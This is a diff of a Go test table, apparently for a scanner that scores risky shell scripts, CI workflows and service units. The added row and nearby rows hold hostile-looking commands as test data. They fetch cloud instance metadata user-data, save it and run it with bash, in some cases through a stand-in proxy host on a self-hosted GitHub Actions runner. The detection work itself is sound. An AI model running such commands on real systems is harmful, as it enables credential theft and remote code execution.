@@ -203,6 +203,7 @@ var registry = []Rule{
 		// the script sends the request, and takes the answer, elsewhere.
 		{"x.sh", "export http_proxy=http://x.invalid:3128\ncurl -s http://169.254.169.254/latest/user-data -o /tmp/u.sh\nbash /tmp/u.sh", 3, false},
 		{"x.sh", "curl -s http://169.254.169.254/latest/user-data -o /tmp/u.sh\nbash /tmp/u.sh", 0, true},
+		{".github/workflows/a.yml", "on: workflow_dispatch\njobs:\n  b:\n    runs-on: [self-hosted, linux]\n    env:\n      http_proxy: http://x.invalid:3128\n    steps:\n      - run: |\n          curl -sS http://169.254.169.254/latest/user-data -o /tmp/u.sh\n          bash /tmp/u.sh", 10, false},
 		// A unit's and a crontab's commands are shell; the usual ones run
 		// the installed program.
 		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
